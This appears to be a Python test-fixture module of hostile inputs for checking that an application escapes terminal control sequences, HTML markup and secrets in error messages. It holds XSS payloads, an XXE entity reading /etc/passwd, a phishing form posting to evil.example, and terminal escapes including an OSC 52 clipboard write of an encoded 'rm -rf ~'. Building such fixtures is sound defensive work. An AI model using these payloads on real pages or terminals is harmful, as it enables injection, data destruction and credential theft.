"""What strangers write into bodies, headers, names and errors to harm who reads them.

`STEERING` moves a terminal, `MARKUP` changes a page, `SECRETS` must not be shown to anybody;
`ORDINARY` are errors of every day, which must stay as they are. Everything is written with escapes:
this file itself does nothing to a terminal.
"""

import unicodedata
from collections.abc import Mapping
from typing import NamedTuple

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"

STEERING: Mapping[str, str] = {
    "OSC 52, writes the clipboard": f"{ESC}]52;c;cm0gLXJmIH4={ST}",
    "OSC 0, sets the title": f"{ESC}]0;pwned{BEL}",
    "OSC 8, a link": f"{ESC}]8;;https://evil.example/{ST}click{ESC}]8;;{ST}",
    "CSI, clears the screen": f"{ESC}[2J{ESC}[H",
    "CSI, colours": f"{ESC}[31;1mred{ESC}[0m",
    "CSI, asks for an answer": f"{ESC}[6n",
    "DCS, asks for settings": f"{ESC}P$q q{ST}",
    "C1 CSI": "\x9b31mred\x9b0m",
    "C1 OSC": "\x9d52;c;cm0=\x9c",
    "C1 next line": "one\x85two",
    "bidi override": "invoice\u202egpj.exe\u202c",
    "bidi isolates": "\u2067right to left\u2069\u2066left to right\u2069",
    "NUL": "before\x00after",
    "carriage return": "bad\rfine",
    "backspace": "bad\b\b\bfine",
    "DEL": "before\x7fafter",
    "line feed": "one\n2026-01-01 00:00:00 INFO    redrive: all is well",
    "line and paragraph separators": "one\u2028two\u2029three",
    "zero width": "pass\u200bword\u2060\ufeff",
    "tag characters": "hi\U000e0068\U000e0069\U000e007f",
    "markup of rich": "[bold red]no[/bold red] [link=https://evil.example/]click[/link] [/]",
}
"""Texts by what they do to a terminal, or to the line that they stand in."""

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</style>",
    "<style>*{display:none}</style>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "<a href='javascript:alert(1)'>click</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=password>",
    "<object data=https://evil.example/></object>",
    "<link rel=stylesheet href=https://evil.example/>",
    "<!--",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;script&#x3e;",
    "<\x00script>alert(1)</script\u2028>",
)
"""Texts that would be tags, attributes or comments on a page that does not escape them."""


class Secret(NamedTuple):
    """A text with a secret in it.

    Args:
        shape: where secrets of this kind come from.
        text: what an error says.
        secret: what nobody may see of it.
    """

    shape: str
    text: str
    secret: str


SECRET = "Zk7hunter2Qx"

_JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJlX29mX2l0"

SECRETS = (
    # URLs
    Secret("password of a URL", f"no answer from amqp://guest:{SECRET}@host:5672/vhost", SECRET),
    Secret("password with an @ in it", f"amqp://guest:{SECRET}@{SECRET}@host/", SECRET),
    Secret("user with an @ in it", f"amqp://me@corp.com:{SECRET}@host/", SECRET),
    Secret("password with a slash in it", f"amqp://guest:a/{SECRET}@host/vhost", SECRET),
    Secret("password with a question mark in it", f"amqp://guest:a?{SECRET}@host/vhost", SECRET),
    Secret("password without a user", f"redis://:{SECRET}@localhost/0", SECRET),
    Secret("database URL", f"postgresql+psycopg://app:{SECRET}@db:5432/shop", SECRET),
    Secret(
        "token as the user",
        f"fatal: unable to access 'https://{SECRET}@github.com/acme/shop.git'",
        SECRET,
    ),
    Secret("?token=", f"GET https://host/path?a=1&token={SECRET}&b=2 failed", SECRET),
    Secret("?key=", f"https://maps.example.com/api?key={SECRET}", SECRET),
    Secret("?api_key=", f"https://host/path?api_key={SECRET}", SECRET),
    Secret("?client_secret=", f"https://host/oauth?client_id=1&client_secret={SECRET}", SECRET),
    Secret("?refresh_token=", f"https://host/oauth?grant=1&refresh_token={SECRET}", SECRET),
    Secret(
        "?X-Amz-Signature=",
        f"https://bucket.s3.amazonaws.com/x?X-Amz-Date=2026&X-Amz-Signature={SECRET}",
        SECRET,
    ),
    Secret(
        "?X-Amz-Security-Token=",
        f"https://bucket.s3.amazonaws.com/x?X-Amz-Security-Token={SECRET}%2F",
        SECRET,
    ),
    Secret(
        "?X-Goog-Signature=", f"https://storage.googleapis.com/x?X-Goog-Signature={SECRET}", SECRET
    ),
    Secret(
        "?sig= of a shared access signature",
        f"https://x.blob.core.windows.net/c?sv=1&sig={SECRET}%3D",
        SECRET,
    ),
    Secret("#access_token=", f"https://app/callback#access_token={SECRET}&state=1", SECRET),
    Secret(
        "Slack webhook",
        f"POST https://hooks.slack.com/services/T000/B000/{SECRET} gave 404",
        SECRET,
    ),
    Secret(
        "Discord webhook", f"POST https://discord.com/api/webhooks/123/{SECRET} gave 404", SECRET
    ),
    Secret("Telegram bot", f"https://api.telegram.org/bot123:{SECRET}/sendMessage", SECRET),
    # headers
    Secret("bearer token", f"Authorization: Bearer {SECRET}", SECRET),
    Secret(
        "bearer token in a dict",
        f"headers were {{'Authorization': 'Bearer {SECRET}', 'Accept': '*/*'}}",
        SECRET,
    ),
    Secret("bearer token in JSON", f'{{"authorization":"Bearer {SECRET}"}}', SECRET),
    Secret("bearer token in a list of pairs", f"[(b'authorization', b'Bearer {SECRET}')]", SECRET),
    Secret("bearer token alone", f"the token Bearer {SECRET} was refused", SECRET),
    Secret("basic login", "Authorization: Basic Z3Vlc3Q6aHVudGVyMg==", "Z3Vlc3Q6aHVudGVyMg"),
    Secret("proxy login", "Proxy-Authorization: Basic Z3Vlc3Q6aHVudGVyMg==", "Z3Vlc3Q6aHVudGVyMg"),
    Secret(
        "signed request",
        f"Authorization: AWS4-HMAC-SHA256 Credential=A/1, SignedHeaders=host, Signature={SECRET}",
        SECRET,
    ),
    Secret("login without a scheme", f"Authorization: {SECRET}", SECRET),
    Secret("x-api-key", f"X-Api-Key: {SECRET}", SECRET),
    Secret("x-auth-token", f"x-auth-token: {SECRET}", SECRET),
    Secret("cookie", f"Cookie: session={SECRET}; theme=dark", SECRET),
    Secret("second cookie", f"Cookie: theme=dark; session={SECRET}", SECRET),
    Secret("set-cookie", f"Set-Cookie: sid={SECRET}; Path=/; HttpOnly", SECRET),
    Secret("cookie in a dict", f"{{'cookie': 'sid={SECRET}; a=b'}}", SECRET),
    # settings
    Secret("password=", f"connect(host=db, password={SECRET}, timeout=3)", SECRET),
    Secret("password='…'", f"connect(host='db', password='{SECRET}')", SECRET),
    Secret("password with a space", f"connect(password='a {SECRET}')", SECRET),
    Secret("password: …", f"password: {SECRET}", SECRET),
    Secret("libpq", f"could not connect: host=db user=app password={SECRET} dbname=shop", SECRET),
    Secret("libpq with quotes", f"host=db password='it\\'s {SECRET}' dbname=shop", SECRET),
    Secret("ADO", f"Server=db;Uid=app;Pwd={SECRET};Database=shop", SECRET),
    Secret(
        "storage account",
        f"DefaultEndpointsProtocol=https;AccountName=a;AccountKey={SECRET}==;EndpointSuffix=x",
        SECRET,
    ),
    Secret(
        "service bus",
        f"Endpoint=sb://x/;SharedAccessKeyName=root;SharedAccessKey={SECRET}=",
        SECRET,
    ),
    Secret("JSON", f'{{"user": "app", "password": "{SECRET}"}}', SECRET),
    Secret("JSON in JSON", f'{{"body": "{{\\"password\\": \\"{SECRET}\\"}}"}}', SECRET),
    Secret("dict", f"{{'user': 'app', 'client_secret': '{SECRET}'}}", SECRET),
    Secret("dict of bytes", f"{{'password': b'{SECRET}'}}", SECRET),
    Secret("arrows", f"['password' => '{SECRET}']", SECRET),
    Secret("environment", f"DB_PASSWORD={SECRET} RABBITMQ_DEFAULT_PASS=x", SECRET),
    Secret("environment, short", f"MYSQL_PASS={SECRET}", SECRET),
    Secret("AWS settings", f"aws_secret_access_key = {SECRET}", SECRET),
    Secret("command line", f"mysql --password {SECRET} -h db", SECRET),
    Secret(
        "command line as a list",
        f"Command '['mysql', '--password', '{SECRET}']' returned 1",
        SECRET,
    ),
    Secret("XML", f"<user>app</user><password>{SECRET}</password>", SECRET),
    Secret("form", f"user=app&password={SECRET}&remember=1", SECRET),
    Secret("pin of digits", "pin=471108", "471108"),
    Secret("code of digits", "totp_code: 471108", "471108"),
    Secret("card verification", "cvv: 123", "123"),
    # other names of secrets
    *(
        Secret(text.replace("§", "…"), text.replace("§", SECRET), SECRET)
        for text in (
            # settings of frameworks
            "SECRET_KEY_BASE=§",
            "config.secret_key_base = '§'",
            "SECRET_KEY='§'",
            "SECRET_KEY_FALLBACKS = ['one', '§']",
            "SECURITY_PASSWORD_SALT = '§'",
            "APP_KEY=base64:§=",
            "'app_key' => '§'",
            "RAILS_MASTER_KEY=§",
            "DATABASE_URL=postgres://app:§@db/shop",
            "DB_PASSWORD_2=§",
            "password1=§&password2=x",
            "//registry.npmjs.org/:_auth=§xyzxyzxyz==",
            '{"auths": {"hub": {"auth": "§xyzxyzxyz=="}}}',
            # short names
            "'pass': '§'",
            '"pass": "§"',
            "{user: 'u', pass: '§'}",
            "user=u pass=§ host=h",
            "pin: §",
            "otp=§",
            "csrf=§",
            "csrf_token=§",
            "X-XSRF: §",
            "credential=§",
            "credentials: '§'",
            "X-Amz-Algorithm=A&X-Amz-Credential=§%2F2026&X-Amz-Signature=x",
            "X-Amz-Signature=§",
            "sig=§&se=2026-01-01",
            "sv=2026&sr=b&sig=§%3D",
            # sessions
            "sessionid=§",
            "session_id: '§'",
            "PHPSESSID=§",
            "/shop;jsessionid=§?page=1",
            "ASP.NET_SessionId=§",
            "connect.sid=s%3A§.x",
            "laravel_session=§abcdefgh",
            # sentences
            "invalid token '§'",
            'bad password "§"',
            "access key '§' is unknown",
            "CREATE USER app IDENTIFIED BY '§'",
            # Python
            "requests.get(url, auth=('u', '§'))",
            "auth=(user, '§')",
            '\'auth\': ["u", "§"]',
            "basic_auth=('elastic', '§')",
            "HTTPBasicAuth('u', '§')",
            "HTTPDigestAuth(username='u', password='§')",
            "aiohttp.BasicAuth(login, b'§')",
            "PlainCredentials('guest', '§')",
            "smtp.login('me@corp.com', '§')",
            # logins of HTTP
            'Digest username="u", realm="r", nonce="n", uri="/", response="§"',
            'Authorization: Digest username="u", realm="r",\n nonce="n", response="§"',
            '"Digest username=\\"u\\", response=\\"§\\""',
            # commands
            "curl -u user:§ https://h/",
            "curl -sSu 'user:§' https://h/",
            "['curl', '-u', 'user:§']",
            "curl -u:§ https://h/",
            '["curl","--user","user:§"]',
            "curl --user user:§ https://h/",
            "curl --proxy-user=user:§ https://h/",
            "--user u:§",
            "http -a u:§ https://h/",
            "-p§",
            "mysql -uroot -p§ shop",
            "mysqldump -u root -p'§' shop",
            "['mysqladmin', '-uroot', '-p§']",
            "sshpass -p § ssh h",
            "sshpass -p§ ssh h",
            "redis-cli -h h -a § ping",
            "['redis-cli', '-a', '§']",
            "redis-cli --pass § ping",
            "PGPASSWORD=§ psql -h h",
            "psql 'host=h user=u password=§'",
            "rabbitmqadmin -u guest -p § list queues",
            "rabbitmqctl add_user app §",
            "mongodump -u u -p § --db shop",
            "docker login -u u -p § hub",
            "ldapsearch -D cn=u -w § -b dc=x",
            "sqlcmd -S h -U u -P §",
            "openssl rsa -passin pass:§",
            "keytool -list -storepass §",
            "sqlplus -s u/§@h",
            # connections
            "jdbc:oracle:thin:u/§@h:1521:x",
            "jdbc:oracle:oci:u/a@§@//h/x",
            "jdbc:sqlserver://h:1433;user=u;password=§;",
            "jdbc:sqlserver://h;user=u;password={a;§}",
            "jdbc:mysql://h/shop?user=u&password=§",
            "Driver=x;UID=u;PWD={§;x};",
            "amqp://guest:a\n§@host/",
            "amqp://guest:§\n@host/",
            "amqp://guest:a\r\n§@host/",
            "amqp://guest:a §@host/",
            "SG.§.§",
        )
    ),
    # by their own shape
    Secret("JWT", f"signature of {_JWT} has expired", "eyJzdWIiOiIxMjM0In0"),
    Secret(
        "GitHub token",
        "remote: ghp_0123456789abcdefghijABCDEFGHIJ012345 is revoked",
        "0123456789abcdefghij",
    ),
    Secret("GitLab token", "glpat-0123456789abcdefABCD is revoked", "0123456789abcdef"),
    Secret("Slack token", "invalid_auth for xoxb-123456789012-abcdefABCDEF", "abcdefABCDEF"),
    Secret(
        "Stripe key", "No such customer, key sk_live_0123456789abcdefABCDEF", "0123456789abcdef"
    ),
    Secret(
        "private key",
        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: "
        "4\n\nMIIEpAIB\n-----END RSA PRIVATE KEY-----\n",
        "MIIEpAIB",
    ),
)
"""Texts with a secret, one of each shape."""

ORDINARY = (
    "no plan for 'gold'",
    "KeyError: 'token'",
    "KeyError: 'password'",
    "key error: 'plan'",
    "missing key: 'plan'",
    "Key (id)=(17) already exists.",
    'duplicate key value violates unique constraint "users_pkey"',
    "routing_key=user.create",
    "routing key: user.create",
    "primary key: 17, partition_key=eu-1, sort_key = 2026-01-01",
    "cache key=user:17 is gone",
    "monkey=17, turkey: 12, donkey='x1'",
    "Unexpected token } in JSON at position 4",
    "Unexpected token: '}'",
    "expected token: EOF",
    "token: expired",
    "max_tokens=4096, tokens: 12",
    "got an unexpected keyword argument 'token'",
    "1 validation error for Login\npassword\n  Field required [type=missing]",
    (
        "2 problem(s) in the body as Login: password: Field required; token: Input should be a "
        "valid string"
    ),
    "invalid password",
    "the password is wrong",
    "password authentication failed for user 'app'",
    "{'user': 'app', 'password': None, 'token': null}",
    "password=None, secret=False",
    "password_policy: min12, max_password_length=72",
    'secret "db" not found',
    "No such file: '/run/secrets/db_password'",
    "secret_name=db-1",
    "token_type=Bearer1",
    "Bearer authentication failed",
    "Basic authentication is off",
    "Authorization failed",
    "authorization: access denied for user 12",
    "signature: (self, x=1)",
    "signature mismatch",
    "killed: sig=9, signal=15",
    "pass: 3, fail: 2",
    "bypass=1, compass=2",
    "the cookie is too large: 5000 bytes",
    "cookie: too large",
    "author=ann, authority: 12",
    "see https://host:8080/path?page=2&monkey=1 or write to a@b.c",
    "https://host:8080/users/@ann",
    "http://[::1]:8080/users/@ann",
    "amqp://guest@localhost/",
    "git@github.com:acme/shop.git",
    "ssh://git@github.com/acme/shop.git",
    "https://hooks.slack.com/ is down",
    "assert password == expected",
    "a=1, b=2, 12:30@noon, user@example.com",
    "PWD=/srv/app",
    # close to a secret
    "session_id=42",
    "session_id: user-17",
    "session id: 42",
    "db_session=<Session at 0x7f01>",
    "the session is gone: session=17",
    "JSESSIONID is missing",
    "unexpected token 'foo'",
    "Unexpected token 'utf8mb4_general_ci'",
    "invalid token 'name'",
    "no password 'x' of that name",
    "password 'must have a digit'",
    'secret "db-1" not found',
    "pin: 17 is high",
    "pin: 17, level=1",
    "pin=GPIO17",
    "ping=1234, spin: 4711",
    "otp failed",
    "otp=26.2.5",
    "Erlang/OTP 26 [erts-14.2]",
    "OTP: OTP-26.2.5",
    "csrf check failed",
    "csrf=off, xsrf: disabled",
    "credentials=True, credentials: missing",
    "credential=None",
    "credentials=PlainCredentials(username='guest')",
    "credentials: /etc/app/v2/creds17.json",
    "credentials=include",
    "sig=9&x=1",
    "auth=('u', None)",
    "auth=(user, password)",
    "auth=(…)",
    "auth: basic, auth='kerberos'",
    "auth=scram-sha-256",
    "allowed_auth=('basic', 'digest')",
    "author=('ann', 'bob')",
    "{'auth': ['basic', 'digest']}",
    "private key 'server.key1' is not readable",
    "{'pass': 'no', 'fail': 3}",
    "credential helper failed, session_id=None",
    "PIN code wrong, sig=SIGTERM, spin=123456",
    "HTTPBasicAuth() takes 2 arguments",
    "HTTPBasicAuth(user, password)",
    "login('main')",
    "digest mismatch: response=404",
    'WWW-Authenticate: Digest realm="shop", nonce="a1b2c3d4e5", qop="auth"',
    "{'pass': 3, 'fail': 2}",
    "'pass': 'yes'",
    "pass=12/14, pass=98.5%",
    "PASS: test_login_17",
    "{'password': ['This field is required.']}",
    "password={settings.password}",
    "mysql -port 3306",
    "mysql -P3306 -h db",
    "mysql: docker run -p3306:3306",
    "mysql -u root -p shop",
    "run curl -u with the user and the password",
    "curl -u admin: asks for it",
    "curl -sS https://host:8080/ failed",
    "docker run -u 1000:1000 --user app:app -p 8080:80 -p127.0.0.1:81:81",
    "gcc -pthread -pedantic -pipe",
    "ssh -p 2222 host, mkdir -p /srv/app17",
    "python -p no:cacheprovider -u shop.py",
    "docker login -u u failed",
    "login failed, port 5672: see -p 15672",
    "redis-cli -a is not safe",
    "sqlplus scripts/run17.sql",
    "jdbc:oracle:thin:@//host:1521/shop",
    "jdbc:mysql://host:3306/shop?useSSL=false",
    "see http://host:8080\nor ann@corp.com",
    "no answer from amqp://localhost:5672, guest@localhost",
    "SG.production.eu",
    "app_keyboard=1, map_key=user17, wrap key=17",
    "secret_key_version=2, password_history=5",
    "rabbitmqctl add_user failed",
    "openssl -passin file:/run/key17",
    "the card 4111 1111 1111 1111 and DE89 3704 0044 0532 0130 00",
)
"""Errors of every day, in which nothing is secret."""


def steering_in(text: str, keep: str = "\n") -> set[str]:
    """The characters of a text that would steer a terminal or hide something, as escapes; those in
    `keep` may stand."""
    found = {character for character in text if character not in keep and _steers(character)}
    return {character.encode("unicode_escape", "backslashreplace").decode() for character in found}


def _steers(character: str) -> bool:
    category = unicodedata.category(character)
    return category[0] == "C" or category in ("Zl", "Zp")
